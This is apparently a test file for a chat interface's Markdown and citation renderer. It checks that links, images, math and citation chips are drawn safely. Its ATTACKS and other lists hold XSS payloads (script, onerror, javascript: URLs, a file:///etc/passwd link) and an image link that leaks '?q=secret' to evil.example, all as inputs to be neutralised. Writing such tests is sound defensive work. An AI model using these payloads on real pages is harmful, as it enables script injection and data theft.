import assert from "node:assert/strict"
import test from "node:test"

import { host } from "../page.js"
import { everyMark } from "../marks.js"
import { stuck } from "../yardstick.js"
const { blocks, nodes } = await import("../../../static/js/text/markdown.js")
const { signed } = await import("../../../static/js/text/citations.js")

/** @param {number} index @param {string} [url] @returns {any} */
const source = (index, url = `https://s${index}.example/`) =>
  ({ index, url, title: `Title ${index}`, site: `s${index}.example`, published: null, status: "read", code: null })
const sources = new Map([1, 2].map((index) => [index, source(index)]))
/** @param {string} text @param {boolean} [isLive] @param {[number, number][]} [marks] */
const drawn = (text, isLive = false, marks = everyMark(text)) => {
  const element = host()
  element.append(...blocks(signed(text, marks, sources), { sources, marks }, isLive).blocks.map(nodes))
  return element
}
/** @param {string} text @param {string} selector */
const count = (text, selector) => drawn(text).querySelectorAll(selector).length

const ATTACKS = [
  "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<iframe src='javascript:alert(1)'>",
  "[a](javascript:alert(1))", "[a](JaVaScRiPt:alert(1))", "[a](java&#10;script:alert(1))", "[a](data:text/html,<script>1</script>)",
  "[a](vbscript:x)", "[a](file:///etc/passwd)", "[a](//evil.example/x)", "<a href='javascript:1'>a</a>", "<javascript:alert(1)>",
  "![a](javascript:alert(1))", "```\"><img src=x onerror=alert(1)>\ncode\n```", "`<img src=x onerror=alert(1)>`",
  "[a](https://e.example \"\\\" onmouseover=alert(1)\")", "$\\href{javascript:alert(1)}{x}$", "<style>*{display:none}</style>",
  "<form action=https://evil.example><input name=x>", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<base href=https://evil.example>", "<meta http-equiv=refresh content=0>", "| a | <img src=x onerror=1> |\n|---|---|\n| b | c |",
  "# <object data=x>", "> <embed src=x>", "1. <video src=x onerror=1>", "[x]: javascript:alert(1)\n\n[x]",
]
for (const attack of ATTACKS) {
  test(`nothing of the page runs or loads from ${JSON.stringify(attack)}`, () => {
    for (const isLive of [false, true]) {
      const made = drawn(attack, isLive)
      assert.equal(made.querySelector("script,img,svg,iframe,style,form,input,object,embed,video,base,meta,link,math"), null)
      for (const element of made.querySelectorAll("*")) {
        for (const { name, value } of element.attributes) {
          assert.doesNotMatch(name, /^(on|style$|src|srcset)/i)
          if (name === "href") assert.match(value, /^(https?:\/\/|mailto:)/i)
        }
      }
    }
  })
}

test("a picture is never loaded: its text stands in its place", () => {
  for (const text of ["![a cat](https://evil.example/?q=secret)", "![a cat][r]\n\n[r]: https://evil.example/x.png"]) {
    const made = drawn(text)
    assert.equal(made.querySelector("img"), null)
    assert.match(made.textContent ?? "", /a cat/)
  }
})

test("a link opens apart, carries nothing along and shows its host", () => {
  const link = drawn("[good bank](https://evil.example/a?b=c)").querySelector("a")
  assert.equal(link?.getAttribute("rel"), "noopener noreferrer nofollow ugc")
  assert.equal(link?.getAttribute("target"), "_blank")
  assert.match(link?.textContent ?? "", /evil\.example/)
})

test("a link to a source of the turn needs no host", () => {
  assert.equal(drawn("[one](https://s1.example/)").textContent?.trim(), "one")
})

test("a link says where it leads if its words say otherwise, to a source too", () => {
  for (const words of ["https://bank.example/", "bank.example", "s1.example.bank.org", "**bank.example**"]) {
    assert.match(drawn(`[${words}](https://s1.example/)`).textContent ?? "", / s1\.example\s*$/)
  }
  for (const words of ["s1.example", "https://s1.example/", "version 2.0"]) {
    assert.equal(drawn(`[${words}](https://s1.example/)`).textContent?.trim(), words)
  }
})

test("a host of letters that look like others is shown in Punycode, however the link is written", () => {
  const lookalike = "https://\u0440\u0430ypal.example/x"
  for (const text of [`[PayPal](${lookalike})`, `see ${lookalike} now`, `<${lookalike}>`, `[paypal.example](${lookalike})`, "https://xn--ypal-43d9g.example/"]) {
    assert.match(drawn(text).querySelector("a .prose__host")?.textContent ?? "", /^xn--ypal-/)
  }
})

test("a bare address becomes a link, a file name does not", () => {
  assert.equal(count("see https://a.example/b and README.md", "a"), 1)
})

test("a number becomes a chip only where that source was read", () => {
  const made = drawn("One [1], two [2][1], none [3], no number [x].")
  assert.deepEqual([...made.querySelectorAll("[data-part=chip]")].map((chip) => chip.textContent), ["1", "2", "1"])
  assert.match(made.textContent ?? "", /none \[3\]/)
})

test("a chip says which page it leads to", () => {
  const chip = drawn("One [1].").querySelector("[data-part=chip]")
  assert.equal(chip?.getAttribute("data-source"), "1")
  assert.equal(chip?.getAttribute("aria-label"), "Source 1: s1.example · Title 1")
})

const HIDING = [
  "`a[1]`", "```\na[1]\n```", "    a[1]", "$x_[1]$", "$$x[1]$$", "\\(x[1]\\)", "\\[x[1]\\]", "[see [1]](https://e.example/)",
  "![a [1]](https://e.example/)", "[a](https://e.example/ \"t [1]\")", "| a |\n|---|\n| b | c [1] |", "~~~\n[1]", "<https://e.example/[1]>",
]

test("without the server's word no number is a chip", () => {
  for (const text of HIDING) assert.equal(drawn(text, false, []).querySelector("[data-part=chip]"), null, text)
})

test("where the server says that a mark is, there is a chip, whatever stands around it", () => {
  for (const text of HIDING) {
    const chips = drawn(text).querySelectorAll("[data-part=chip]")
    assert.deepEqual([chips.length, chips[0]?.closest("a, code, [data-math]")], [1, null], text)
  }
})

test("a source's title cannot break out of the chip", () => {
  const evil = new Map([[1, { ...source(1), title: "\"><img src=x onerror=alert(1)>" }]])
  const element = host()
  element.append(...blocks(signed("a [1]", [[2, 1]], evil), { sources: evil, marks: [[2, 1]] }, false).blocks.map(nodes))
  assert.equal(element.querySelector("img"), null)
})

test("emphasis works beside Chinese punctuation", () => {
  assert.equal(drawn("**重点：**正文").querySelector("strong")?.textContent, "重点：")
  assert.equal(drawn("这是**“引号”**的文字").querySelector("strong")?.textContent, "“引号”")
})

test("mathematics keeps its text and its shape", () => {
  const made = drawn("Inline $a_1 * b_2$ and \\(c\\).\n\n$$\na\n- b\n$$\n\n\\[ d \\]")
  const formulas = [...made.querySelectorAll("[data-math]")]
  assert.deepEqual(formulas.map((one) => [one.getAttribute("data-math"), one.textContent?.replaceAll(/\s+/g, " ")]),
    [["inline", "a_1 * b_2"], ["inline", "c"], ["display", "a - b"], ["display", "d"]])
})

test("money is not mathematics", () => {
  assert.equal(count("It costs $5 and then $10, or $3-$4.", "[data-math]"), 0)
})

test("code is shown with its language and can be copied", () => {
  const made = drawn("```python\nprint(1 < 2)\n```")
  assert.equal(made.querySelector("code")?.getAttribute("data-language"), "python")
  assert.equal(made.querySelector("code")?.textContent, "print(1 < 2)\n")
  assert.ok(made.querySelector("[data-part=copy-code]"))
})

test("a table aligns by class, not by style", () => {
  assert.equal(drawn("| a | b |\n|---|--:|\n| 1 | 2 |").querySelector("td[class]")?.className, "prose__cell--right")
})

test("the answer's headings stand below the page's", () => {
  assert.equal(drawn("# Title").querySelector("h3")?.textContent, "Title")
})

test("a link to a text of our own works, one to anything else of ours is none", () => {
  assert.equal(drawn("([connect one](/handbook/en/connect-sglang/))").querySelector("a")?.getAttribute("href"), "/handbook/en/connect-sglang/")
  for (const address of ["/accounts/logout/", "//evil.example/handbook/", "/handbook/../accounts/logout/", "/handbook/%2e%2E/accounts/logout/", "/handbook/en/..", "/handbook/\\evil"]) {
    assert.equal(count(`[a](${address})`, "a"), 0, address)
  }
})

test("lists and quotations take the side of their script", () => {
  for (const text of ["- عنصر", "1. עברית", "> نص"]) assert.ok(drawn(text).querySelector("[dir=auto]"), text)
})

const UNITS = [
  "\\(", "\\[", "\\[\n", "$$\n", "\\[a\n\n", "$$a\n\n", "a\n\n", "```\n", "$a ", "\\(\\\\)", "[", "](", "[a](", "![", "<http", "<b>",
  "`", "*", "**a", "_a ", "~~", "|a", "| a |\n", "> ", "- a\n", "1. ", "#", "\\", "\\frac{", "\\begin{", "a@b.", "http://", "\u200b", "e\u0301",
]

test("Markdown of one kind only is read in linear time: a looping answer freezes no page", () => {
  for (const unit of UNITS) {
    const text = `A. ${unit.repeat(60_000 / unit.length)}x`
    for (const isLive of [true, false]) {
      assert.equal(stuck(2000, () => blocks(text, { sources: new Map(), marks: [] }, isLive)), 0, `${unit} ${isLive}`)
    }
  }
})
